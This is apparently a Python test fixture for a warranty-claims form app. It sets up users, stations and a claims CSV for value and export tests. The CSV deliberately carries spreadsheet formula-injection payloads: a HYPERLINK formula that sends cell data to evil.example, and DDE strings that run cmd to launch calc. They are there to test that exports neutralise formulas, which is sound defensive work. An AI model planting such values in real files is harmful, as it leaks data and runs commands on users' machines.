"""A small real formdesk for the value and export tests: the real app on a fresh data
folder, users of every role, a claims file imported through the API and forms printed,
uploaded as the PDFs they are (read from their text layer) and read by the real reader.

Claims of station HN01 (March 2026) match the printed tag by VIN and part number, so the
reconciliation has evidence that links to the review page; a second station exists only
because a claims file named it with a formula.
"""

from __future__ import annotations

import csv
import hashlib
import io
from dataclasses import dataclass, field

from fastapi.testclient import TestClient

from formdesk.api.app import create_app
from formdesk.model.accounts import User
from formdesk.model.claims import Station
from formdesk.services.passwords import hash_password
from formdesk.templates import get_template

from ..conftest import sample_values

PASSWORD = "correct horse 7"
MONTH = "2026-03"
# values that spreadsheet programs would run as formulas (OWASP "CSV Injection")
EVIL_STATION = '=HYPERLINK("http://evil.example/?leak="&A1,"点此查看")'
EVIL_PART = "+cmd|' /C calc'!A0"
EVIL_MODEL = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_FAULT = "-2+3+cmd|' /C calc'!A0"
EVIL_VALUES = (EVIL_STATION, EVIL_PART, EVIL_MODEL, EVIL_FAULT)
CLAIM_HEADER = [
    "索赔单号",
    "维修站",
    "车架号",
    "发动机号",
    "车型",
    "零件编号",
    "零件名称",
    "数量",
    "购买日期",
    "维修日期",
    "行驶里程",
    "故障描述",
    "工时费",
    "材料费",
]


def claims_csv() -> bytes:
    """Two claims of HN01 (one matching the printed tag, with formula-like part name,
    model and fault) and one of a station whose name is a formula."""
    tag = sample_values(get_template("SH-ZH/BD-27"))
    rows = [
        CLAIM_HEADER,
        [
            "SP2026031501",
            "HN01",
            tag["vin"],
            tag["engine_no"],
            tag["vehicle_model"],
            tag["part_no"],
            EVIL_PART,
            "1",
            tag["purchase_date"],
            tag["repair_date"],
            str(tag["mileage_km"]),
            EVIL_FAULT,
            "120",
            "480",
        ],
        [
            "SP2026031602",
            "HN01",
            "LGAG4DD31R8012345",
            "86593104",
            EVIL_MODEL,
            "1307010-KH400",
            "水泵总成",
            "1",
            "2025-04-22",
            "2026-03-16",
            "36820",
            "水泵漏水",
            "90",
            "300",
        ],
        [
            "SP2026031703",
            EVIL_STATION,
            "LGAX2B131RF118904",
            "YC4S15050",
            EVIL_MODEL,
            "3502ZB1-001",
            EVIL_PART,
            "1",
            "2025-09-09",
            "2026-03-17",
            "12040",
            EVIL_FAULT,
            "60",
            "300",
        ],
    ]
    buf = io.StringIO()
    csv.writer(buf).writerows(rows)
    return buf.getvalue().encode("utf-8")


@dataclass
class World:
    app: object
    office: TestClient
    station: TestClient
    auditor: TestClient
    tag_record: str = ""
    fees_record: str = ""
    scan_sha: str = ""
    batch_id: str = ""
    document_id: str = ""
    evil_station: str = ""
    layout_form: str = ""  # a registered layout variant: its form's slug and its name
    layout_name: str = ""
    draft_id: str = ""  # a layout draft awaiting its boxes
    extra: dict = field(default_factory=dict)


def login(app, username: str, password: str = PASSWORD, raise_errors: bool = True) -> TestClient:
    """A client signed in as `username`, sending the CSRF token on every request;
    `raise_errors=False`: a server error is answered 500 instead of raised in the test."""
    client = TestClient(app, raise_server_exceptions=raise_errors)
    res = client.post("/api/login", data={"username": username, "password": password})
    assert res.status_code == 200, res.text
    client.headers["X-CSRF-Token"] = res.json()["csrf"]
    return client


def print_and_read(world: World, client: TestClient, code: str) -> str:
    """Prints `code` prefilled with its sample record, uploads the PDF, reads it with the
    real reader; returns the record id."""
    template = get_template(code)
    pdf = client.post(f"/api/print/{template.slug}", json=sample_values(template))
    assert pdf.status_code == 200, pdf.text
    up = client.post(
        "/api/uploads", files=[("files", (f"{template.slug}.pdf", pdf.content, "application/pdf"))]
    )
    assert up.status_code == 202, up.text
    while world.app.state.reader.run_one():
        pass
    doc_id = pdf.headers["x-document-ids"].split(",")[0]
    items = client.get("/api/records", params={"q": doc_id}).json()["items"]
    assert len(items) == 1, items
    world.batch_id = up.json()["batch_id"]
    world.scan_sha = up.json()["accepted"][0]["sha256"]
    world.document_id = doc_id
    return items[0]["record_id"]


LAYOUT_NAME = "印刷厂票本"
DRAFT_ID = "0123456789abcdef"


def add_layout(world: World) -> None:
    """A layout variant of SH-ZH/BD-27 registered (the independently typeset blank of
    tests/data/external: its true boxes, its page at 200 dpi as the reference image, the
    fingerprint of its ruled lines) and a draft of it awaiting its boxes, unless there
    already; their names in `world`.  Cheap (no OCR): for the routes that take them."""
    import cv2

    from formdesk.extract.ruling import fingerprint, ruling
    from formdesk.model.layouts import LayoutDraft
    from formdesk.model.time import utcnow
    from samples.external import external_blank, truth_variant

    store, drafts = world.app.state.store, world.app.state.layout_drafts
    blank = external_blank("SH-ZH/BD-27")
    world.layout_form, world.layout_name, world.draft_id = "sh-zh-bd-27", LAYOUT_NAME, DRAFT_ID
    have_variant = store.get_layout(blank.code, LAYOUT_NAME) is not None
    have_draft = (drafts.folder / f"{DRAFT_ID}.json").exists()
    if have_variant and have_draft:
        return
    gray = cv2.cvtColor(blank.page(), cv2.COLOR_BGR2GRAY)
    png = cv2.imencode(".png", gray)[1].tobytes()
    variant = truth_variant(blank, LAYOUT_NAME).model_copy(
        update={
            "fingerprint": fingerprint(ruling(gray)),
            "reference_sha256": hashlib.sha256(png).hexdigest(),
        }
    )
    if not have_variant:
        store.add_layout(variant, png)
    if not have_draft:
        draft = LayoutDraft(
            draft_id=DRAFT_ID, template=blank.code, filename="空白标签.jpg",
            paper_mm=variant.paper_mm, fields=variant.fields, table=variant.table, missing=[],
            fingerprint=variant.fingerprint, reference_sha256=variant.reference_sha256,
            created_by="office", created_at=utcnow(),
        )  # fmt: skip
        drafts._keep(draft, png)


def make_world(tmp) -> World:
    """The app on `tmp` with stations HN01/HN02, users office (back office), s1 (HN01),
    audit (auditor); claims imported; a BD-27 tag and a BD-21 feedback read for HN01."""
    app = create_app(tmp, start_worker=False)
    store = app.state.store
    for code, name in (("HN01", "长沙顺达汽车维修站"), ("HN02", "衡阳广汇汽车维修站")):
        store.add_station(Station(code=code, name=name))
    for username, role, station in (
        ("office", "back_office", None),
        ("s1", "station", "HN01"),
        ("audit", "auditor", None),
    ):
        store.add_user(
            User(
                username=username,
                password_hash=hash_password(PASSWORD),
                role=role,
                station=station,
            )
        )
    world = World(app, login(app, "office"), login(app, "s1"), login(app, "audit"))
    res = world.office.post(
        "/api/claims/import", files={"file": ("claims.csv", claims_csv(), "text/csv")}
    )
    assert res.status_code == 200 and res.json()["claims"] == 3, res.text
    (world.evil_station,) = res.json()["stations_added"]
    world.fees_record = print_and_read(world, world.station, "SH-ZH/BD-21")
    world.tag_record = print_and_read(world, world.station, "SH-ZH/BD-27")
    return world
